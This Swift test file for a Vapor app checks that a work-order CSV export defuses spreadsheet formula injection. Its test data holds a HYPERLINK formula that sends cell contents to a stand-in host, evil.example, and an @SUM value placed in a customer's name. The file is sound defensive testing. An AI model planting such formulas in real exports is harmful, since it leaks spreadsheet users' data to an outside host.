import Foundation
import Tabular
import Testing
import Vapor
import VaporTesting

@testable import App

@Suite("CSV exports: formula injection")
struct CSVExportTests {
  @Test("The work-order CSV export neutralises a formula typed into an order")
  func workOrderExport() async throws {
    try await withApp { app in
      // Setup: the work-order loop and a complaint with formulas in its text and name
      let loop = try await WorkOrderLoop.make(app)
      let hostile = #"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")"#
      let json = loop.complaint().replacingOccurrences(of: "抄表员态度恶劣", with: hostile)
        .replacingOccurrences(of: "\"name\":\"张先生\"", with: "\"name\":\"@SUM(1+1)\"")
      let created = try await app.api(.POST, Paths.apiWorkOrders.link(), token: loop.tokens["agent"], json: json)
      #expect(created.status == .created, "\(created.body.string)")
      // Act: export the orders as CSV as the lead
      let lead = PageClient(app)
      try await lead.login("lead")
      let csv = try await lead.get(Paths.workOrdersCSV.link() + "?view=all")
      // Check: the formulas are quoted with ', nothing starts with = or @, not cached
      #expect(csv.status == .ok)
      let records = try TabularReader.rows(in: Data(buffer: csv.body))
      let row = try #require(records.dropFirst().first)
      #expect(row.fields.contains(#"'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")"#))
      #expect(row.fields.contains("'@SUM(1+1)"))
      #expect(!row.fields.contains { $0.hasPrefix("=") || $0.hasPrefix("@") })
      #expect(csv.headers.first(name: .cacheControl) == "no-store")
    }
  }
}
